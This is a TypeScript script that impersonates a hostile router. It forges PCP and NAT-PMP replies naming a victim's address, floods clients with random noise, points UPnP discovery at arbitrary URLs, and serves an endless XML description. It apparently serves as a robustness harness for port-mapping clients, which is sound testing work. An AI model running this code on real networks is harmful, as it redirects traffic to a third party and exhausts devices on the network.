import { randomBytes } from 'node:crypto'
import { createSocket } from 'node:dgram'
import { createServer } from 'node:http'

// A router that lies: `bun hostile-router.ts <its address> <victim's address> <URL>...`. By PCP and NAT-PMP it claims
// the victim's address, among noise; by UPnP it sends its guests to the URLs, and its own description never ends.

const [gateway = '', victim = '', ...traps] = process.argv.slice(2)
const address = Buffer.from(victim.split('.').map(Number))

const ports = createSocket('udp4')
ports.on('message', (request, { port, address: from }) => {
  const say = (answer: Buffer) => ports.send(answer, port, from)
  for (const length of [0, 1, 11, 60, 1_100, 9_000]) say(randomBytes(length))
  if (request[0] === 2) {
    const answer = Buffer.concat([request, Buffer.alloc(Math.max(0, 60 - request.length))])
    answer[1] = 0x80 | request[1]!
    answer.fill(0, 2, 4)
    answer.writeUInt32BE(0xffff_ffff, 4)
    answer.writeUInt16BE(53, 42)
    address.copy(answer, 56)
    say(answer)
  } else {
    const answer = Buffer.alloc(16, 0xff)
    answer[0] = 0
    answer[1] = 0x80 | request[1]!
    answer.fill(0, 2, 4)
    if (request[1] === 0) address.copy(answer, 8)
    else request.copy(answer, 8, 4, 6)
    say(request[1] === 0 ? answer.subarray(0, 12) : answer)
  }
  console.log('asked for a port')
})
ports.bind(5351, gateway)

const endless = createServer((_, response) => {
  console.log('asked for a description')
  response.writeHead(200, { 'content-type': 'text/xml' })
  const more = () => {
    while (!response.destroyed && response.write('<a><!-- '.repeat(1_000)));
  }
  response.on('drain', more)
  more()
})
endless.listen(8_080, gateway)

const discovery = createSocket('udp4')
discovery.on('message', (_, { port, address: from }) => {
  for (const url of [...traps, 'nonsense', `http://${gateway}:8080/root.xml`])
    discovery.send(`HTTP/1.1 200 OK\r\nLOCATION: ${url}\r\n\r\n`, port, from)
})
discovery.bind(1900, gateway, () => console.log('ready'))
